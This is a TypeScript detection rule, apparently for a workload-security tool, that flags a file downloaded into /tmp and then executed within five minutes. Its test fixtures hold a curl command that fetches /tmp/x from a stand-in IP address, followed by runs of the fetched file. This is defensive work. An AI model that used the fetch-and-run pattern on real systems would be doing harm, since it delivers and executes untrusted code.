import { defineDetection } from '@cws/core'
import { downloadToTemporary, programFromTemporary } from '../rules/dropped.ts'

const FETCH = {
  on: 'exec',
  'exec.file.name': 'curl',
  'exec.args': '-s -o /tmp/x http://203.0.113.5/x',
  'exec.file.path': '/usr/bin/curl',
} as const
const RUN = { on: 'exec', 'exec.file.path': '/tmp/x', 'exec.file.name': 'x', 'exec.args': '' } as const

export const droppedAndRun = defineDetection({
  id: 'dropped-and-run',
  name: 'Something was fetched into a temporary folder and run',
  severity: 'medium',
  tags: ['mitre:T1105', 'mitre:T1204.002'],
  kind: 'sequence',
  steps: [[downloadToTemporary], [programFromTemporary]],
  by: ['tree'],
  within: '5m',
  message:
    'Within {{within}} something was fetched into a temporary folder, and {{author}} run from one, in the same log-in or service. Droppers work so, and so do installers that people fetch.',
  advice:
    'See in `findings` what was fetched from where. If you do not know the address, keep a copy of the file and look at what it is connected to.',
  benign: [
    'Installers that are fetched and run by hand or by a script',
    'Builds of images by Packer or Terraform, whose scripts lie in /tmp',
  ],
  tests: {
    fires: [
      [FETCH, RUN],
      [FETCH, { ...RUN, 'exec.file.path': '/usr/bin/dash', 'exec.file.name': 'dash', 'exec.args': '/tmp/x.sh', after: '4m' }],
    ],
    silent: [
      [RUN, FETCH],
      [FETCH, { ...RUN, after: '6m' }],
      [FETCH, { ...RUN, 'process.pid': 7 }],
      [FETCH, { ...RUN, 'exec.file.path': '/tmp/go-build1/b001/exe/main' }],
    ],
  },
})
